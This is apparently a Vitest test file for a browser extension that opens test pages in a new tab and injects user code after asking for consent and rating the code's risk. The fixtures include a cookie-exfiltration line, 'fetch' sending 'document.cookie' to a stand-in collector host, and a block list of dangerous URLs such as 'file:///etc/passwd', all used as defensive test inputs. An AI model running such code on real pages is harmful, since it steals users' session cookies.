import { describe, expect, test, vi } from "vitest";
import { HUB, HUB_TAB } from "./bridge.ts";
import { FIRST_OPENED_TAB, news } from "./run-pages.ts";
import { choose, endsWith, open, SHOP } from "./test-run-scene.ts";
import { askTest, finish, load, paint, press, runOnce, runUnasked, whyAsked } from "./test-tab-scene.ts";

describe("hub-extension: the test URL in a new tab", () => {
	test("asks once for a site, opens the address beside the tab of the hub, and reuses that tab", async () => {
		const all = open();
		const runId = await askTest(all);
		expect(all.pages.loaded).toEqual([]);
		expect(await whyAsked(all, runId)).toMatchObject({ url: paint.openUrl, origin: SHOP, why: "first", news: [] });
		await press(all, runId);
		expect(all.pages.loaded).toEqual([{ url: paint.openUrl, tabId: FIRST_OPENED_TAB, beside: HUB_TAB }]);
		expect(all.pages.injected).toEqual([]);
		await load(all);
		await vi.waitFor(() => expect(all.snapshot()).toMatchObject({ state: "running" }));
		expect(all.snapshot().target).toEqual({ title: "A page", site: SHOP });
		expect(all.pages.injected).toMatchObject([{ tabId: FIRST_OPENED_TAB, code: paint.code }]);
		await all.link.stop();
		expect(all.pages.tabs.has(FIRST_OPENED_TAB)).toBe(true);

		// Changed code, and another page of the site.
		await runUnasked(all, { ...paint, code: "document.title = 'x';", openUrl: `${SHOP}/other` });
		expect(all.pages.loaded.at(-1)).toEqual({ url: `${SHOP}/other`, tabId: FIRST_OPENED_TAB, beside: null });
		// Nothing runs in the page that the tab showed before.
		expect(all.pages.injected).toHaveLength(1);
		await finish(all);
		expect(all.pages.injected).toHaveLength(2);
		expect(JSON.stringify(all.snapshot())).not.toContain("bank.test");
	});

	test("code that ends before the browser tells that it has begun names its page as well", async () => {
		const all = open();
		await press(all, await askTest(all));
		all.pages.behavior = "loads";
		const tabId = await load(all);
		const end = { success: true, output: null, errors: [], memory_used: null };
		await all.testRuns.report(news({ load: 1, end }), { tabId, frameId: 0 });
		await vi.waitFor(() => expect(all.snapshot().state).toBe("ended"));
		expect(all.snapshot()).toMatchObject({ target: { title: "A page", site: SHOP }, result: { success: true } });
	});

	test("a tab that was closed, or in which the person went on to another site, is not reused", async () => {
		const all = open();
		const tabId = await runOnce(all);
		all.pages.tabs.set(tabId, { id: tabId, url: "https://bank.test/", title: "Bank", isLoading: false });
		await runUnasked(all);
		const second = await finish(all);
		expect([second, all.pages.tabs.get(tabId)?.url]).toEqual([FIRST_OPENED_TAB + 1, "https://bank.test/"]);
		await all.testRuns.tabClosed(second);
		all.pages.tabs.delete(second);
		await runUnasked(all);
		expect(await finish(all)).toBe(FIRST_OPENED_TAB + 2);
	});

	test.each([
		`${HUB}/builder`,
		"javascript:alert(1)",
		"data:text/html,x",
		"file:///etc/passwd",
		"chrome://settings/",
		"https://chromewebstore.google.com/detail/x",
		"https://me:secret@shop.test/",
	])("opens and asks nothing for %s", async (openUrl) => {
		const all = open();
		expect(await all.link.start({ ...paint, openUrl })).toMatchObject({ ok: true });
		await endsWith(all, "PAGE_NOT_ALLOWED");
		expect([all.pages.asked, all.pages.loaded]).toEqual([[], []]);
	});

	test("an address that is too long, which the editor refuses itself, opens and asks nothing", async () => {
		const all = open();
		const openUrl = `${SHOP}/${"a".repeat(2000)}`;
		// The extension answers no message that its schema refuses.
		await all.link.start({ ...paint, openUrl });
		await endsWith(all, "CONNECTION_LOST");
		expect([all.pages.asked, all.pages.loaded]).toEqual([[], []]);
	});

	test.each([
		["another site", "https://bank.test/page"],
		["another port", "https://shop.test:8443/page"],
		["another scheme", "http://shop.test/page"],
		["a site below", "https://pay.shop.test/page"],
	])("an agreement is not one for %s", async (_, openUrl) => {
		const all = open();
		await runOnce(all);
		const runId = await askTest(all, { ...paint, openUrl });
		expect(await whyAsked(all, runId)).toMatchObject({ why: "first", origin: new URL(openUrl).origin });
	});

	test("an agreement is one for a tab of the hub and its open page only", async () => {
		const all = open();
		await runOnce(all);
		const other = all.newHub();
		all.join(other, HUB_TAB + 1);
		all.pages.front = HUB_TAB + 1;
		await whyAsked(all, await askTest(all, paint, other));
		await other.stop();
		// The same page of the hub, restored in another tab, is another one.
		all.link.lost();
		all.join(all.link, HUB_TAB + 1);
		await askTest(all);
		await all.link.stop();
		all.link.lost();
		all.join(all.link, HUB_TAB);
		all.pages.front = HUB_TAB;
		await runUnasked(all);
		await finish(all);
		// Left for another document, even of the hub.
		await all.testRuns.navigated(HUB_TAB, `${HUB}/create`);
		await askTest(all);
	});

	test.each([
		["rated High", 'fetch("https://collector.example/?" + document.cookie);', "high"],
		["that reaches a server", 'fetch("https://collector.example/");', "more"],
		["that cannot be read", "let let = (;", "unrated"],
	])("code %s asks in spite of an agreement", async (_, code, why) => {
		const all = open();
		await runOnce(all);
		const runId = await askTest(all, { ...paint, code });
		expect(await whyAsked(all, runId)).toMatchObject({ why });
		expect(all.pages.loaded).toHaveLength(1);
	});

	test("code rated High asks each time, also the same; code that was seen to do more does not ask again", async () => {
		const all = open();
		const high = { ...paint, code: 'fetch("https://collector.example/?" + document.cookie);' };
		await runOnce(all, high);
		expect(await whyAsked(all, await askTest(all, high))).toMatchObject({ why: "high" });
		await all.link.stop();
		const more = { ...paint, code: 'localStorage.setItem("a", "b");' };
		await runOnce(all, more);
		await runUnasked(all, { ...more, code: 'localStorage.setItem("c", "d");' });
	});

	test("a tab of the hub that is in the background asks, also when it goes there during the check", async () => {
		const all = open();
		await runOnce(all);
		all.pages.front = 2;
		expect(await whyAsked(all, await askTest(all))).toMatchObject({ why: "background" });
		await all.link.stop();
		all.pages.front = HUB_TAB;
		const { rate } = all.pages;
		all.pages.rate = async (code) => {
			all.pages.front = 2;
			return rate(code);
		};
		const changed = { ...paint, code: "document.title = 'x';" };
		expect(await whyAsked(all, await askTest(all, changed))).toMatchObject({ why: "background" });
		expect(all.pages.loaded).toHaveLength(1);
	});

	test("asks again where the person wanted that, and everywhere after the settings took it back", async () => {
		const all = open();
		await press(all, await askTest(all), paint, false);
		await finish(all);
		expect(await all.testRuns.tests.sites()).toEqual({ ok: true, value: [] });
		await runOnce(all);
		expect(await all.testRuns.tests.sites()).toEqual({ ok: true, value: [SHOP] });
		await runUnasked(all);
		await all.testRuns.tests.forget();
		await endsWith(all, "STOPPED");
		await press(all, await askTest(all), paint, false);
		await finish(all);
		await askTest(all);
	});

	test("agreements that are taken back during the check of the code do not count", async () => {
		const all = open();
		await runOnce(all);
		const { rate } = all.pages;
		all.pages.rate = async (code) => {
			// Ends the run as well: the page of the hub is not asked again by itself.
			await all.testRuns.tests.forget();
			return rate(code);
		};
		await all.link.start({ ...paint, code: "document.title = 'x';" });
		await endsWith(all, "STOPPED");
		expect([all.pages.asked.length, all.pages.loaded.length]).toEqual([1, 1]);
	});

	test("further sites are asked for, and the run ends at those that were not allowed", async () => {
		const all = open();
		await runOnce(all);
		const request = { ...paint, sites: [SHOP, "https://pay.test"] };
		const runId = await askTest(all, request);
		expect(await whyAsked(all, runId)).toMatchObject({ why: "sites" });
		await press(all, runId, request);
		await load(all, "https://pay.test/");
		await endsWith(all, "SITE_NOT_ALLOWED");
		expect(all.pages.injected).toHaveLength(1);
	});

	test("the page that asks cannot run it in another tab, at another site, or twice", async () => {
		const all = open();
		const runId = await askTest(all);
		expect(await choose(all, runId)).toMatchObject({ error: { code: "RUN_NOT_FOUND" } });
		const elsewhere = { origin: "https://bank.test", sites: [], agreed: null };
		expect(await all.testRuns.tests.run(runId, elsewhere)).toMatchObject({ error: { code: "RUN_NOT_FOUND" } });
		all.pages.isAllowed = false;
		expect(await press(all, runId)).toMatchObject({ error: { code: "NOT_ALLOWED" } });
		all.pages.isAllowed = true;
		expect(await press(all, runId)).toMatchObject({ ok: true });
		expect(await press(all, runId)).toMatchObject({ error: { code: "RUN_NOT_FOUND" } });
		expect(all.pages.loaded).toHaveLength(1);
	});

	test("two requests at once: the second is refused, while the first is asked for, checked, or loads", async () => {
		const all = open();
		const other = all.newHub();
		all.join(other);
		const refused = { error: { code: "RUN_IN_PROGRESS" } };
		const runId = await askTest(all);
		expect(await other.start(paint)).toMatchObject(refused);
		await press(all, runId);
		expect(await other.start(paint)).toMatchObject(refused);
		await finish(all);
		let rated = (): void => undefined;
		const { rate } = all.pages;
		all.pages.rate = async (code) => {
			await new Promise<void>((resolve) => {
				rated = resolve;
			});
			return rate(code);
		};
		await all.link.start({ ...paint, code: "document.title = 'x';" });
		expect(await other.start(paint)).toMatchObject(refused);
		await vi.waitFor(() => expect(rated).not.toBeUndefined());
		rated();
		await vi.waitFor(() => expect(all.pages.loaded).toHaveLength(2));
	});

	test("with an extension that opens no tabs the person chooses one, as before", async () => {
		const all = open();
		const link = all.newHub(["execute-script"]);
		all.join(link);
		await link.start(paint);
		const runId = all.pages.asked.at(-1) ?? "";
		expect(await all.testRuns.request(runId)).toMatchObject({ value: { test: null, sites: [SHOP] } });
		expect(await choose(all, runId)).toMatchObject({ ok: true });
		expect(all.pages.loaded).toEqual([]);
	});
});
